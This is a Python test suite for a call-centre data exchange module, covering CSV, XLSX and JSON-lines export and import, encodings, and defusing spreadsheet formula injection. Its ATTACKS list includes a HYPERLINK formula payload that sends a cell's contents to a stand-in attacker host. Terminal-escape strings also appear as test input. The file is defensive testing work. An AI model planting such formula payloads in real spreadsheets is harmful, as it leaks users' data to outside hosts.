"""File formats (callcenter.exchange): what Excel needs, what attackers try, and totality of the readers."""
from __future__ import annotations

import codecs
import csv
import io
import json
from datetime import datetime, timezone
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from callcenter.exchange import csvread, xlsxread, xlsxwrite
from callcenter.exchange.cells import defused, for_terminal, undefused
from callcenter.exchange.columns import Column
from callcenter.exchange.header import match
from callcenter.exchange.tables import CELL_LIMIT, Broken, Record
from callcenter.exchange.writers import open_writer

ZONE = ZoneInfo("Asia/Shanghai")
COLUMNS = [Column("name", heading="姓名"), Column("phone", "phone", "电话"), Column("at", "time", "时间"),
           Column("count", "int"), Column("vip", "bool")]
MOMENT = int(datetime(2026, 12, 1, 0, 3, tzinfo=timezone.utc).timestamp())


def written(fmt: str, rows, columns=COLUMNS, **options) -> bytes:
    out = io.BytesIO()
    writer = open_writer(fmt, out, columns, ZONE, **options)
    for row in rows:
        writer.row(row)
    writer.close()
    return out.getvalue()


# ---- CSV out -----------------------------------------------------------------------------------

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+86 138 1234 5678", "-2+3", "@SUM(A1)",
           "\tTAB", "\rCR", "'=already quoted"]


def test_csv_has_a_bom_so_excel_reads_chinese():
    data = written("csv", [["周伟涛", "13812345678", MOMENT, 1, True]])
    assert data.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["姓名", "电话", "时间", "count", "vip"],
                    ["周伟涛", "13812345678", "2026-12-01T08:03:00+08:00", "1", "True"]]


def test_csv_for_old_systems_in_gb18030_has_no_bom():
    data = written("csv", [["周伟涛", None, None, None, None]], encoding="gb18030")
    assert data.decode("gb18030").splitlines()[1] == "周伟涛,,,,"


@pytest.mark.parametrize("text", ATTACKS)
def test_every_formula_like_cell_gets_an_apostrophe_unless_raw(text):
    data = written("csv", [[text, text, None, None, None]])
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1]
    assert row[:2] == ["'" + text] * 2
    raw = written("csv", [[text, None, None, None, None]], raw=True)
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[1][0] == text


def test_plain_text_and_numbers_are_left_alone():
    data = written("csv", [["张三", "0396-2345678", None, -5, False]])
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1] == ["张三", "0396-2345678", "",
                                                                                      "-5", "False"]


@given(st.text())
def test_defusing_is_undone_exactly(text):
    assert undefused(defused(text)) == text
    assert not defused(text).lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) or defused(text)[0] == "'"


def test_a_terminal_never_gets_control_bidi_or_zero_width_characters():
    nasty = "a\x1b[31mb\u202ec\u200bd\x9be\u2066f"
    for fmt in ("csv", "jsonl"):
        data = written(fmt, [[nasty, None, None, None, None]], terminal=True, bom=False).decode("utf-8")
        assert not any(ch in data for ch in "\x1b\u202e\u200b\x9b\u2066"), fmt
    assert for_terminal("行一\n行二") == "行一\n行二"


def test_json_lines_keep_names_and_iso_times():
    data = written("jsonl", [["张三", "138", MOMENT, 2, True]])
    assert json.loads(data) == {"name": "张三", "phone": "138", "at": "2026-12-01T08:03:00+08:00", "count": 2,
                                "vip": True}


# ---- XLSX out ----------------------------------------------------------------------------------


def workbook(data: bytes, read_only=False):
    return openpyxl.load_workbook(io.BytesIO(data), read_only=read_only)


def test_xlsx_has_real_dates_text_phones_a_frozen_bold_header_and_chinese_widths():
    data = written("xlsx", [["周伟涛", "013812345678", MOMENT, 3, True], ["李四", None, None, None, False]],
                   sheet="来电")
    book = workbook(data)
    sheet = book.active
    assert sheet.title == "来电" and sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == ["姓名", "电话", "时间", "count", "vip"] and sheet["A1"].font.b
    assert sheet["A2"].value == "周伟涛"
    assert sheet["B2"].value == "013812345678" and sheet["B2"].number_format == "@"  # the 0 stays
    assert sheet["C2"].value == datetime(2026, 12, 1, 8, 3) and sheet["C2"].is_date  # the company's clock
    assert (sheet["D2"].value, sheet["E2"].value, sheet["E3"].value) == (3, True, False)
    assert sheet["B3"].value is None
    assert sheet.column_dimensions["A"].width >= 8 and sheet.column_dimensions["C"].width >= 20


def test_xlsx_is_the_same_bytes_for_the_same_rows():
    rows = [["张三", "1", MOMENT, 1, True]]
    assert written("xlsx", rows) == written("xlsx", rows)


def test_xlsx_holds_any_text_and_gives_it_back(monkeypatch):
    texts = ["a\x00b\x1fc", "_x0041_ is literal", "<&>\"'", "\ufffe", "\ud800", "=1+1", "x" * (CELL_LIMIT + 5)]
    out = io.BytesIO()
    writer = open_writer("xlsx", out, COLUMNS, ZONE)
    writer.rows([[text, None, None, None, None] for text in texts])
    writer.close()
    assert writer.cut == 1  # the caller says so: a cut cell is never silent
    data = out.getvalue()
    read = [record.cells[0] for record in xlsxread.read(io.BytesIO(data)) if isinstance(record, Record)][1:]
    surrogate = "\ud800"
    assert read[:3] == texts[:3] and read[5] == "=1+1"  # a formula-like text stays text in XLSX
    assert read[3] == "\ufffe" and read[4] == surrogate and len(read[6]) == CELL_LIMIT


def test_xlsx_starts_a_new_sheet_before_excel_runs_out_of_rows(monkeypatch):
    monkeypatch.setattr(xlsxwrite, "SHEET_ROWS", 3)
    monkeypatch.setattr(xlsxwrite, "WIDTH_SAMPLE", 2)
    book = workbook(written("xlsx", [[f"n{i}", None, None, i, None] for i in range(7)], sheet="calls"))
    assert book.sheetnames == ["calls", "calls 2", "calls 3"]
    assert [[c.value for c in row] for row in book["calls 3"].iter_rows(min_col=1, max_col=1)] == [["姓名"], ["n6"]]
    assert sum(book[name].max_row - 1 for name in book.sheetnames) == 7


def test_an_empty_xlsx_export_still_opens_with_its_header():
    assert [c.value for c in workbook(written("xlsx", []))["Sheet"][1]] == ["姓名", "电话", "时间", "count", "vip"]


# ---- CSV in ------------------------------------------------------------------------------------


def rows_of(data: bytes, encoding=None) -> list:
    return [(item.line, item.cells) if isinstance(item, Record) else (item.line, item.code)
            for item in csvread.read(io.BytesIO(data), encoding)]


TEXT = "姓名,电话\r\n周伟涛,13812345678\r\n李四,0396-2345678\r\n"


@pytest.mark.parametrize("encoding, bom", [("utf-8", b""), ("utf-8", codecs.BOM_UTF8), ("gbk", b""),
                                           ("gb18030", b""), ("utf-16-le", codecs.BOM_UTF16_LE),
                                           ("utf-16-be", codecs.BOM_UTF16_BE)])
def test_every_encoding_excel_saves_is_read(encoding, bom):
    assert rows_of(bom + TEXT.encode(encoding)) == [(1, ["姓名", "电话"]), (2, ["周伟涛", "13812345678"]),
                                                  (3, ["李四", "0396-2345678"])]


def test_utf16_lines_end_only_at_line_ends():
    data = codecs.BOM_UTF16_LE + "a,b\r\n甲\u2028乙,\x0c\r\n".encode("utf-16-le")
    assert rows_of(data) == [(1, ["a", "b"]), (2, ["甲\u2028乙", "\x0c"])]


def test_excel_unicode_text_is_tab_separated():
    data = codecs.BOM_UTF16_LE + "姓名\t电话\r\n张三\t138\r\n".encode("utf-16-le")
    assert rows_of(data) == [(1, ["姓名", "电话"]), (2, ["张三", "138"])]


@pytest.mark.parametrize("sample, expected", [(b"", "utf-8"), (b"abc", "utf-8"), ("周".encode(), "utf-8"),
                                              ("周".encode("gbk"), "gb18030"), (codecs.BOM_UTF8, "utf-8-sig"),
                                              (codecs.BOM_UTF16_LE + b"a\x00", "utf-16"), (b"\xff\xfe", "utf-16")])
def test_detect(sample, expected):
    assert csvread.detect(sample) == expected


@given(st.binary(max_size=200))
def test_detect_is_total(sample):
    assert csvread.detect(sample) in ("utf-8", "utf-8-sig", "utf-16", "gb18030")


def test_bad_bytes_are_reported_at_their_line_and_the_rest_is_read():
    data = "a,b\n1,2\n".encode() + "周,3\n".encode("gbk") + b"4,5\n"
    assert rows_of(data, "utf-8") == [(1, ["a", "b"]), (2, ["1", "2"]), (3, "file.bad_bytes"), (4, ["4", "5"])]


def test_bad_bytes_in_utf16_are_reported_at_their_line_and_the_rest_is_read():
    data = (codecs.BOM_UTF16_LE + "a,b\r\n1,2\r\n".encode("utf-16-le") + b"\x00\xdc" + ",x\r\n".encode("utf-16-le")
            + "3,4\r\n".encode("utf-16-le"))
    assert rows_of(data) == [(1, ["a", "b"]), (2, ["1", "2"]), (3, "file.bad_bytes"), (4, ["3", "4"])]


def test_an_unterminated_quote_is_reported_where_it_starts_and_the_lines_after_it_are_read():
    data = 'name,phone\n张三,138\n"李四,139\n王五,137\n赵六,136\n'.encode()
    assert rows_of(data) == [(1, ["name", "phone"]), (2, ["张三", "138"]), (3, "file.unterminated_quote"),
                             (4, ["王五", "137"]), (5, ["赵六", "136"])]


def test_a_quoted_cell_may_span_lines_and_keeps_its_start_line():
    data = 'name,address\n张三,"多行\n地址, 3栋"\n李四,"引号""里"""\n'.encode()
    assert rows_of(data) == [(1, ["name", "address"]), (2, ["张三", "多行\n地址, 3栋"]), (4, ["李四", '引号"里"'])]


def test_an_oversized_cell_is_reported_for_what_it_is_and_the_next_row_is_read():
    data = b"name,notes\n" + b"a," + b"x" * 1_000_000 + b"\nb,ok\n"
    assert rows_of(data) == [(1, ["name", "notes"]), (2, "file.cell_too_large"), (3, ["b", "ok"])]
    huge = b"name,notes\n" + b"a," + b"x" * (csvread.RECORD_LIMIT + 10) + b"\nb,ok\n"
    assert rows_of(huge) == [(1, ["name", "notes"]), (2, "file.line_too_long"), (3, ["b", "ok"])]


def test_a_stray_cr_stays_in_its_cell_for_the_row_check_to_refuse():
    assert rows_of(b"a,b\r\nx\ry,z\r\n") == [(1, ["a", "b"]), (2, ["x\ry", "z"])]


def test_an_apostrophe_that_guarded_a_formula_is_taken_off():
    assert rows_of(b"a,b\n'=1+1,''=x\n") == [(1, ["a", "b"]), (2, ["=1+1", "'=x"])]


@given(st.sampled_from([b"", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE]), st.binary(max_size=400))
def test_reading_any_bytes_is_total(bom, data):
    data = bom + data
    lines = data.count(b"\n") + 1
    for item in csvread.read(io.BytesIO(data)):
        assert isinstance(item, (Record, Broken)) and 1 <= item.line <= lines + 1


@given(st.lists(st.lists(st.text(alphabet='ab,"\n\r\t周 ', max_size=6), min_size=1, max_size=4), max_size=6))
def test_what_csv_writes_is_read_back(rows):
    out = io.StringIO(newline="")
    csv.writer(out).writerows([["h"]] + rows)
    items = list(csvread.read(io.BytesIO(out.getvalue().encode())))
    records = [item.cells for item in items if isinstance(item, Record)][1:]
    expected = [[cell.replace("\r\n", "\n") for cell in row] for row in rows if row != [""]]
    assert not any(isinstance(item, Broken) for item in items)
    assert [record for record in records if record != [""]] == expected


# ---- XLSX in -----------------------------------------------------------------------------------


@pytest.mark.parametrize("value, expected", [
    (None, ""), ("文本", "文本"), ("a_x000D_b", "a\rb"), (13812345678.0, "13812345678"), (12, "12"), (1.5, "1.5"),
    (True, "TRUE"), (datetime(2026, 12, 1, 8, 3), datetime(2026, 12, 1, 8, 3)),
    (datetime(2026, 12, 1).date(), datetime(2026, 12, 1)), (float("nan"), "nan"), (1e300, "1e+300"),
])
def test_xlsx_cells_as_the_importer_reads_them(value, expected):
    assert xlsxread.cell_text(value) == expected


@given(st.one_of(st.none(), st.text(), st.integers(), st.floats(), st.booleans(), st.datetimes(), st.dates(),
                 st.times()))
def test_reading_any_xlsx_cell_is_total(value):
    assert isinstance(xlsxread.cell_text(value), (str, datetime))


def test_a_damaged_workbook_is_one_broken_row():
    items = list(xlsxread.read(io.BytesIO(b"PK\x03\x04 not really a zip")))
    assert len(items) == 1 and items[0].code == "file.bad_xlsx" and items[0].stopped


# ---- headers -----------------------------------------------------------------------------------

ALIASES = {"name": "name", "姓名": "name", "phone": "phone", "电话": "phone", "handover_at": "handover_at"}


def test_headers_in_either_language_any_case_and_width():
    names, problems = match(["\ufeff Name ", "电话", ""], ALIASES, ("name", "phone"))
    assert (names, problems) == (["name", "phone", None], [])


def test_unknown_duplicated_and_missing_columns_are_all_named():
    names, problems = match(["handover", "姓名", "name"], ALIASES, ("name", "phone"))
    assert [(p.code, p.params) for p in problems] == [
        ("file.unknown_column", {"column": "handover", "suggestion": "handover_at"}),
        ("file.duplicate_column", {"column": "name", "first": "姓名"}),
        ("file.missing_column", {"column": "phone"})]


@given(st.lists(st.one_of(st.text(max_size=20), st.integers(), st.none(), st.datetimes()), max_size=8))
def test_matching_any_header_row_is_total(header):
    names, problems = match(header, ALIASES, ("name",))
    assert len(names) == len(header) and all(p.code.startswith("file.") for p in problems)
